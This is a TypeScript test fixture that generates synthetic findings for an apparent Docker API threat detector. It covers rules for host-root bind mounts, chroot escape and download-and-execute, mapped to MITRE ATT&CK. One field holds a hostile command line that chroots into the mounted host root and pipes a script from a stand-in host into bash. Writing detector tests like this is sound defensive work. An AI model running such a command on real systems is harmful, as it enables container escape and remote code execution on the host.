// Findings of the seed scenario (examples/events/seed-attack.jsonl), built with the
// Finding type directly: the host-root bind, the chroot escape, download-and-execute
// and the pull → create → start correlation, all from 203.0.113.7.
import { createHash } from 'node:crypto';
import type { Finding } from '../../schemas/generated/finding';

const RULES = [
  {
    id: '56abf52d-f5bd-49c2-b477-30c53bfdd15d',
    name: 'Container Created With The Host Root Filesystem Mounted',
    level: 'high',
    tags: ['attack.privilege_escalation', 'attack.t1611'],
    tactic: ['TA0004', 'Privilege Escalation'],
    technique: [['T1611', 'Escape to Host']],
  },
  {
    id: '31f23350-0051-4b0b-8fc2-45b1f7d7a831',
    name: 'Container Command Chroots Into A Mounted Host Path',
    level: 'high',
    tags: ['attack.privilege_escalation', 'attack.t1611'],
    tactic: ['TA0004', 'Privilege Escalation'],
    technique: [['T1611', 'Escape to Host']],
  },
  {
    id: 'af7557bb-94b5-4162-8e98-fac9490ec695',
    name: 'Download And Execute In A Container Or Exec Command',
    level: 'high',
    tags: ['attack.execution', 'attack.t1059.004', 'attack.t1610'],
    tactic: ['TA0002', 'Execution'],
    technique: [
      ['T1059.004', 'Command and Scripting Interpreter: Unix Shell'],
      ['T1610', 'Deploy Container'],
    ],
  },
] as const;

const SEVERITY: Record<string, number> = { informational: 1, low: 21, medium: 47, high: 73, critical: 99 };

/** `n` findings; ids are deterministic in (runId, i), as the detector's are in their inputs. */
export function seedFindings(n: number, runId: string, over: (f: Finding, i: number) => void = () => {}): Finding[] {
  const out: Finding[] = [];
  for (let i = 0; i < n; i++) {
    const r = RULES[i % RULES.length]!;
    const eventId = `${runId}-event-${i}`;
    const f: Finding = {
      timestamp: Date.parse('2026-11-28T10:01:09.000Z') + i * 1000,
      finding: {
        id: createHash('sha256').update(`sigma|${r.id}|v1|${eventId}`).digest('hex').slice(0, 32),
        kind: 'sigma',
        created: Date.parse('2026-11-28T10:01:10.000Z') + i * 1000,
        detector: 'detector-test-0',
      },
      event: { severity: SEVERITY[r.level]!, risk_score: SEVERITY[r.level]!, level: r.level },
      rule: {
        id: r.id,
        name: r.name,
        version: 'sha256:test',
        description: null,
        reference: [],
        tags: [...r.tags],
        ruleset: 'docker/rule.yml',
      },
      threat: {
        framework: 'MITRE ATT&CK',
        tactic: { id: [r.tactic[0]], name: [r.tactic[1]] },
        technique: { id: r.technique.map((t) => t[0]), name: r.technique.map((t) => t[1]) },
      },
      message: `${r.name} by 203.0.113.7`,
      source: { ip: '203.0.113.7', port: 40122 },
      host: { name: 'docker-host-1' },
      user: { name: null },
      http: { request: { method: 'POST' } },
      url: { path: '/containers/create', original: '/v1.41/containers/create' },
      container: { id: null, image: { name: 'alpine:latest' } },
      process: { command_line: "chroot /mnt /bin/sh -c 'curl -sL4 http://x/m.sh | bash'" },
      dockguard: {
        endpoint: '/containers/create',
        client_key: '203.0.113.7',
        event_ids: [eventId],
        event_count: 1,
        matched: [{ field: 'dockguard.container.binds', value: '/:/mnt' }],
        correlation: null,
        baseline: null,
        intel: null,
        collector: { id: 'proxy-1', mode: 'proxy' },
      },
    };
    over(f, i);
    out.push(f);
  }
  return out;
}
